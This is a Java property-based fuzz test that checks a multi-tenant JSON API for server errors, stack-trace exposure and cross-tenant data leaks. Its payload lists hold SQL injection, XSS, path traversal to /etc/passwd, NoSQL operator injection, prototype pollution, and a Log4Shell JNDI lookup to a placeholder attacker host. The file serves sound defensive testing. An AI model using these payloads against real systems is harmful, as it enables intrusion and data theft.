package dev.samvad.sdk;

import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertNotEquals;
import static org.junit.jupiter.api.Assertions.assertTrue;

import com.fasterxml.jackson.databind.JsonNode;
import dev.samvad.api.TenantId;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.Set;
import net.jqwik.api.Arbitraries;
import net.jqwik.api.Arbitrary;
import net.jqwik.api.Combinators;
import net.jqwik.api.Example;
import net.jqwik.api.ForAll;
import net.jqwik.api.Property;
import net.jqwik.api.Provide;
import net.jqwik.api.Tuple;
import net.jqwik.api.lifecycle.AfterContainer;
import net.jqwik.api.lifecycle.BeforeContainer;
import net.jqwik.api.statistics.Statistics;

/**
 * Every route of the JSON API, fed malformed, oversized and injection payloads by principals of
 * random roles, attributes and tenants: nothing answers 500, every failure is the error model, and
 * no answer to a principal of another tenant carries the seeded tenant's data.
 */
class JsonApiFuzzProperties {
  static final int CAP = 16_384;

  /** Text that only the seeded tenant (acme) holds: names, invoice numbers, reply text. */
  private static final List<String> ACME_DATA =
      List.of("Shree Ganesh", "INV-C-1", "INV-C-2", "INV-C-3", "quantity is short", "acme@okbank");

  private static SecurityFixture fixture;

  @BeforeContainer
  static void seed() {
    fixture = new SecurityFixture(CAP);
  }

  @AfterContainer
  static void close() {
    fixture.close();
  }

  /** One fuzzed call. */
  record Attack(String method, String path, String body, String contentType, Principal principal) {}

  @Property(tries = 1500)
  void noRouteFailsOrLeaksAnotherTenantsData(@ForAll("attacks") Attack attack) {
    Map<String, String> headers =
        attack.contentType().isEmpty() ? Map.of() : Map.of("Content-Type", attack.contentType());
    JsonResponse response =
        fixture.as(attack.principal()).call(attack.method(), attack.path(), headers, attack.body());
    Statistics.label("status").collect(response.status());
    check(attack.principal(), response);
  }

  /** A fixed sweep, so that every route certainly meets every kind of payload. */
  @Example
  void everyRouteMeetsEveryHostilePayload() {
    sweep(fixture, false);
  }

  /**
   * Every route of {@code on}'s table, addressed with the seeded campaign's id, a customer id, a
   * traversal and the route's own real ids (so message and task routes reach real resources), meets
   * every hostile payload from an administrator of the seeded tenant, one of another tenant and a
   * relationship manager. {@code on} must cap bodies at {@link #CAP}.
   *
   * @param realIdsOnly only the route's real ids: for slower stores, where the other ids add little
   *     (they are refused before the store is reached)
   */
  static void sweep(SecurityFixture on, boolean realIdsOnly) {
    List<String> payloads = new ArrayList<>(hostileBodies());
    payloads.add("x".repeat(CAP + 1));
    payloads.add("{\"customerId\":\"" + "ग".repeat(CAP / 3 + 1) + "\"}");
    List<Principal> callers =
        List.of(
            Principal.of(ApiClient.ACME, "root", Role.values()),
            Principal.of(new TenantId("globex"), "spy", Role.values()),
            SecurityFixture.user("ravi", Role.RELATIONSHIP_MANAGER));
    for (JsonRoute route : on.samvad.jsonRoutes()) {
      List<String> paths = new ArrayList<>();
      paths.add(SecurityFixture.path(route.path(), on.c1));
      if (!realIdsOnly) {
        for (String id : List.of(on.c1.campaign(), "C-1", "..%2F..%2Fetc")) {
          paths.add(fill(route.path(), id));
        }
      }
      for (String path : paths) {
        for (String payload : payloads) {
          for (Principal caller : callers) {
            String body = route.method().equals("GET") ? "" : payload;
            check(caller, on.as(caller).call(route.method(), path, body));
          }
        }
      }
    }
  }

  private static void check(Principal principal, JsonResponse response) {
    assertNotEquals(500, response.status(), response.body());
    assertTrue(response.header("X-Correlation-Id").isPresent());
    assertFalse(response.body().contains("Exception"), response.body());
    assertFalse(response.body().contains("\tat "), response.body());
    if (!response.isSuccessful()) {
      JsonNode error = ApiClient.json(response);
      assertTrue(error.path("code").isTextual(), response.body());
      assertTrue(error.path("message").isTextual(), response.body());
    }
    if (!principal.tenant().equals(ApiClient.ACME)) {
      for (String data : ACME_DATA) {
        assertFalse(response.body().contains(data), data + " leaked: " + response.body());
      }
    }
  }

  private static String fill(String template, String value) {
    return template.replaceAll("\\{[A-Za-z]+\\}", java.util.regex.Matcher.quoteReplacement(value));
  }

  @Provide
  Arbitrary<Attack> attacks() {
    Arbitrary<JsonRoute> routes = Arbitraries.of(fixture.samvad.jsonRoutes());
    Arbitrary<String> ids =
        Arbitraries.oneOf(
            Arbitraries.of(
                "C-1",
                "C-2",
                fixture.c1.campaign(),
                fixture.c2.execution(),
                fixture.c1.task(),
                "*",
                "%2e%2e%2f",
                "C-1%00",
                "C-1;DROP TABLE customers",
                "${jndi:ldap://x/a}",
                "%E0%A4%97"),
            Arbitraries.strings()
                .alpha()
                .numeric()
                .withChars("-_.:")
                .ofMinLength(1)
                .ofMaxLength(70),
            Arbitraries.strings().ofMaxLength(30));
    Arbitrary<String> queries =
        Arbitraries.of(
            "",
            "",
            "?limit=1",
            "?limit=-1&after=C-0",
            "?limit=99999999999",
            "?after=%27%20OR%201%3D1",
            "?assignee=user:asha&kind=RESOLVE_DISPUTE&status=all&sort=priority",
            "?from=2025-13-01&to=x",
            "?offset=1000001");
    // Mostly the route's own method, so that most calls reach the route's checks and endpoint.
    Arbitrary<String> otherMethods =
        Arbitraries.frequencyOf(
            Tuple.of(9, Arbitraries.just("")),
            Tuple.of(1, Arbitraries.of("DELETE", "PATCH", "get", "GET", "POST", "")));
    Arbitrary<Tuple.Tuple2<String, String>> targets =
        Combinators.combine(routes, ids, queries, otherMethods)
            .as((r, id, q, m) -> Tuple.of(m.isEmpty() ? r.method() : m, fill(r.path(), id) + q));
    Arbitrary<String> contentTypes =
        Arbitraries.of("", "", "application/json", "text/plain", "application/x+json;charset=x");
    return Combinators.combine(targets, bodies(), contentTypes, principals())
        .as((t, body, type, who) -> new Attack(t.get1(), t.get2(), body, type, who));
  }

  private Arbitrary<Principal> principals() {
    Arbitrary<TenantId> tenants =
        Arbitraries.frequencyOf(
            Tuple.of(2, Arbitraries.just(ApiClient.ACME)),
            Tuple.of(2, Arbitraries.of(new TenantId("globex"), new TenantId("acme2"))),
            Tuple.of(
                1,
                Arbitraries.strings()
                    .alpha()
                    .numeric()
                    .ofMinLength(1)
                    .ofMaxLength(20)
                    .map(TenantId::new)));
    Arbitrary<Set<Role>> roles =
        Arbitraries.oneOf(
            Arbitraries.of(Role.class).set().ofMaxSize(4),
            Arbitraries.just(Set.of(Role.ADMINISTRATOR)));
    Arbitrary<List<String>> assigned =
        Arbitraries.of("C-1", "C-2", "C-3", "*", "", "x".repeat(100)).list().ofMaxSize(3);
    Arbitrary<List<String>> teams = Arbitraries.of("north", "south", "").list().ofMaxSize(2);
    return Combinators.combine(tenants, roles, assigned, teams)
        .as(
            (tenant, r, a, t) ->
                new Principal(tenant, "fuzz", r)
                    .withAttribute(Principal.ASSIGNED_CUSTOMERS, a)
                    .withAttribute(Principal.TEAMS, t));
  }

  private Arbitrary<String> bodies() {
    Arbitrary<String> values =
        Arbitraries.oneOf(
            Arbitraries.of(hostileValues()),
            Arbitraries.strings().ofMaxLength(40).map(JsonApiFuzzProperties::quoted));
    Arbitrary<String> fields =
        Arbitraries.of(
            "customerId",
            "customerId",
            "tenantId",
            "id",
            "legalName",
            "contacts",
            "amount",
            "allocations",
            "invoiceId",
            "campaignId",
            "executionId",
            "customerData",
            "communicationHistory",
            "communications",
            "content",
            "response",
            "action",
            "status",
            "reason",
            "outcome",
            "invoice",
            "thresholds",
            "analysisScope",
            "communicationData",
            "__proto__",
            "constructor");
    Arbitrary<String> objects =
        Combinators.combine(fields.list().ofMaxSize(6), values.list().ofSize(6))
            .as(
                (names, vals) -> {
                  StringBuilder json = new StringBuilder("{");
                  for (int i = 0; i < names.size(); i++) {
                    json.append(i == 0 ? "" : ",")
                        .append('"')
                        .append(names.get(i))
                        .append("\":")
                        .append(vals.get(i));
                  }
                  return json.append('}').toString();
                });
    return Arbitraries.oneOf(
        objects,
        objects,
        objects,
        objects,
        Arbitraries.of(hostileBodies()),
        Arbitraries.strings().ofMaxLength(80),
        Arbitraries.strings().withChars("{}[]\":,0123456789.eE-+ntrufals\\ ").ofMaxLength(80),
        Arbitraries.integers()
            .between(CAP - 4, CAP + 64)
            .map(n -> "{\"x\":\"" + "a".repeat(n) + "\"}"),
        Arbitraries.just(""));
  }

  private static List<String> hostileValues() {
    return List.of(
        "null",
        "true",
        "-0",
        "1e400",
        "-99999999999999999999999999",
        "0.1e-400",
        "\"C-1\"",
        "\"C-2\"",
        "\"*\"",
        "\"acme\"",
        "\"globex\"",
        "\"' OR '1'='1' --\"",
        "\"'); DROP TABLE customers; --\"",
        "\"<script>alert(1)</script>\"",
        "\"{{7*7}}${7*7}#{7*7}\"",
        "\"../../../../etc/passwd\"",
        "\"\\u0000\\u0007\\u001b[31m\"",
        "\"\\ud800\"",
        "\"\\u202eevil\\u202c\"",
        "\"${jndi:ldap://attacker/x}\"",
        "{\"$where\":\"sleep(1000)\"}",
        "{\"paise\":9223372036854775807}",
        "{\"paise\":-1}",
        "[[[[[[[[[[[[[[[[[[[[1]]]]]]]]]]]]]]]]]]]]",
        "[]",
        "{}",
        "\"2025-02-30\"",
        "\"2025-05-05T25:61:00+05:30\"",
        "\"हिन्दी पाठ ₹1,00,000\"");
  }

  private static List<String> hostileBodies() {
    return List.of(
        "",
        "   ",
        "{",
        "}",
        "[]",
        "null",
        "\"string\"",
        "{\"a\":1,\"a\":2}",
        "{\"customerId\":\"C-1\"} trailing",
        "{\"customerId\":\"C-1\",\"tenantId\":\"acme\"}",
        "{\"customerId\":\"C-2\",\"tenantId\":\"globex\"}",
        "{\"customerId\":\"' OR 1=1 --\"}",
        "{\"customerId\":{\"$ne\":null}}",
        "{\"__proto__\":{\"admin\":true},\"customerId\":\"C-1\"}",
        "[".repeat(200) + "]".repeat(200),
        "{\"a\":".repeat(100) + "1" + "}".repeat(100),
        "{\"customerId\":\"C-1\",\"amount\":{\"paise\":1e400}}",
        "\uFEFF{\"customerId\":\"C-1\"}",
        "{\"customerId\":\"C-1\u0000\"}");
  }

  private static String quoted(String s) {
    StringBuilder q = new StringBuilder("\"");
    for (char c : s.toCharArray()) {
      if (c == '"' || c == '\\') {
        q.append('\\').append(c);
      } else if (c < 0x20) {
        q.append(String.format("\\u%04x", (int) c));
      } else {
        q.append(c);
      }
    }
    return q.append('"').toString();
  }
}
